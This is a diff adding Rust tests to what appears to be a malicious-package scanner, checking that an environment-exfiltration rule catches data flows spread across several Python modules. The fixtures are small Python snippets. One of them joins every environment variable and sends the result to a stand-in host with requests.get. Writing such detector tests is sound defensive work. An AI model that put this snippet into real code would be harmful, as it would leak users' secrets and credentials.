@@ -121,3 +121,96 @@ fn imported_names_glued_in_init_is_m1() {
     assert_eq!(f.severity, Severity::High, "{f:#?}");
     assert_eq!(f.line, Some(5));
 }
+
+/// `gather` returns what `collect` (another module) returns.
+const D: &str = "from .a import collect\ndef gather():\n    return collect()\n";
+/// `forward` passes its parameter to `send` (another module).
+const E: &str = "from .c import send\ndef forward(x):\n    send(x)\n";
+
+#[test]
+fn returns_carried_through_a_second_module_are_m1() {
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/c.py", C),
+        ("evmod/d.py", D),
+        (
+            "evmod/__init__.py",
+            "from .d import gather\nfrom .c import send\nsend(gather())\n",
+        ),
+    ]);
+    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
+    assert_eq!((f.severity, f.line), (Severity::High, Some(3)), "{f:#?}");
+}
+
+#[test]
+fn a_parameter_forwarded_to_another_module_s_sender_is_m1() {
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/c.py", C),
+        ("evmod/e.py", E),
+        (
+            "evmod/__init__.py",
+            "from .a import collect\nfrom .e import forward\nforward(collect())\n",
+        ),
+    ]);
+    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
+    assert_eq!(f.severity, Severity::High, "{f:#?}");
+    assert_eq!(f.snippet, "forward(collect())");
+}
+
+#[test]
+fn four_steps_over_five_modules_and_a_local_name_are_m1() {
+    // collect → gather → gather2, and forward2 → forward → send, joined through a name.
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/c.py", C),
+        ("evmod/d.py", D),
+        ("evmod/e.py", E),
+        (
+            "evmod/f.py",
+            "from .d import gather\nfrom .e import forward\ndef gather2():\n    data = gather()\n    return data\ndef forward2(v, w):\n    forward(w)\n",
+        ),
+        (
+            "evmod/__init__.py",
+            "from .f import gather2, forward2\nblob = gather2()\nforward2('x', blob)\n",
+        ),
+    ]);
+    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
+    assert_eq!(f.severity, Severity::High, "{f:#?}");
+    assert_eq!(f.path, "evmod/__init__.py");
+    assert_eq!(f.snippet, "forward2('x', blob)");
+}
+
+#[test]
+fn forwarding_something_else_or_to_another_parameter_is_quiet() {
+    // `forward` sends a constant, not its parameter; `forward2` sends its first parameter and
+    // the environment goes in the second.
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/c.py", C),
+        (
+            "evmod/e.py",
+            "from .c import send\ndef forward(x):\n    send('hello')\ndef forward2(v, w):\n    send(v)\n",
+        ),
+        (
+            "evmod/__init__.py",
+            "from .a import collect\nfrom .e import forward, forward2\nforward(collect())\nforward2('x', collect())\n",
+        ),
+    ]);
+    assert!(m1(&s).is_none(), "{:#?}", s.findings);
+}
+
+#[test]
+fn a_flow_inside_one_file_is_reported_once() {
+    let one = "import os, base64, requests\nfrom .c import helper\ndef collect():\n    return ' '.join(os.environ.values())\ndef send(d):\n    requests.get('https://x.invalid/?q=' + d)\nsend(collect())\n";
+    let s = scan(&[
+        ("evmod/c.py", "def helper():\n    return 1\n"),
+        ("evmod/__init__.py", one),
+    ]);
+    let n = s
+        .findings
+        .iter()
+        .filter(|f| f.rule == Rule::EnvExfiltration)
+        .count();
+    assert_eq!(n, 1, "{:#?}", s.findings);
+}
